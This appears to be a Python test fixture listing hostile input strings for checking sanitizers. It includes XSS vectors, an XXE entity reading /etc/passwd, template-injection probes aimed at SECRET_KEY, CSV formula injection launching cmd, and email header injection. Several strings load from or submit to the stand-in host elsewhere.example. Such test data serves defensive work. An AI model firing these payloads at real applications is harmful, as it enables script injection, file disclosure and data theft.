"""Texts that somebody types who wants more than to be read: each would run, leak, break a table or pass for something else, if it were let.

Whatever runs calls `alert`; whatever makes an element gives it the class `planted`; whatever loads asks `elsewhere.example`.
"""

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT/planted>alert(2)</SCRIPT >",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<img class=planted src=x onerror=alert(4)>",
    '<img class="planted" src="https://elsewhere.example/5">',
    "<svg class=planted onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate class=planted onbegin=alert(8) attributeName=x dur=1s>",
    '<svg class=planted><use href="data:image/svg+xml,<svg id=x onload=alert(9)>#x"></svg>',
    "<math class=planted><mtext></mtext><mglyph><style><img src onerror=alert(10)></style></mglyph></math>",
    "<body onload=alert(11)>",
    "<iframe class=planted srcdoc='<script>parent.alert(12)</script>'></iframe>",
    '<iframe class=planted src="javascript:alert(13)"></iframe>',
    '<a class=planted href="javascript:alert(14)" autofocus onfocus=alert(14)>lee</a>',
    "<details class=planted open ontoggle=alert(15)>",
    "<input class=planted autofocus onfocus=alert(16)>",
    "<video class=planted><source onerror=alert(17)></video>",
    '<object class=planted data="javascript:alert(18)"></object>',
    '<embed class=planted src="data:text/html,<script>alert(19)</script>">',
    '<form class=planted action="https://elsewhere.example/20"><button>Firmar</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://elsewhere.example/21">',
    '<base href="https://elsewhere.example/22/">',
    '<link class=planted rel=stylesheet href="https://elsewhere.example/23.css">',
    "<style class=planted>@import 'https://elsewhere.example/24.css';</style>",
    "<template class=planted><script>alert(25)</script></template>",
    "<noscript><p title='</noscript><img class=planted src onerror=alert(26)>'>",
    "<textarea></textarea><script>alert(27)</script>",
    "<title></title><script>alert(28)</script>",
    "--><script>alert(29)</script><!--",
    "]]><script>alert(30)</script>",
    "<![CDATA[<script>alert(31)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<xss class=planted style=position:fixed;inset:0 onmouseover=alert(33)>",
)
ATTRIBUTES = (
    '" onmouseover=alert(34) class=planted x="',
    "' onfocus=alert(35) autofocus class=planted x='",
    '"><script>alert(36)</script>',
    "'><img class=planted src onerror=alert(37)>",
    "`onmouseover=alert(38)`",
    "javascript:alert(39)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0MCk8L3NjcmlwdD4=",
)
ESCAPES = (
    "&lt;script&gt;alert(41)&lt;/script&gt;",
    "&#60;img class=planted src onerror=alert(42)&#62;",
    "\\u003cscript\\u003ealert(43)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(44)%3C/script%3E",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "%(title)s %s {0} {title.__class__} ${7*7}",
    "</script><script>alert(47)</script>",
    "[lee](javascript:alert(48)) <https://elsewhere.example/48>",
)
FORMULAS = (
    '=HYPERLINK("https://elsewhere.example/49";"Firmar")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
SIGNS = (
    "agua\u200b\u200c\u200d\ufeff escondida",
    "\u202ednilap\u202c al rev\u00e9s",
    "\u2066aislado\u2069 y \u2067al otro lado\u2069",
    "\uff46\uff55\uff4c\uff4c\uff57\uff49\uff44\uff54\uff48 \uff1cscript\uff1ealert(57)\uff1c/script\uff1e",
    "Z\u0351\u036b\u0343a\u0328\u0322l\u0321g\u0321o\u0334 " + "\u0301" * 40,
    "Bcc: alguien@elsewhere.example\r\nSubject: otro asunto\r\n\r\nhola",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \u00f1and\u00fa \u1e7d \ua78c \u1e8d \U0001f1f2\U0001f1fd",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *ESCAPES, *FORMULAS, *SIGNS)
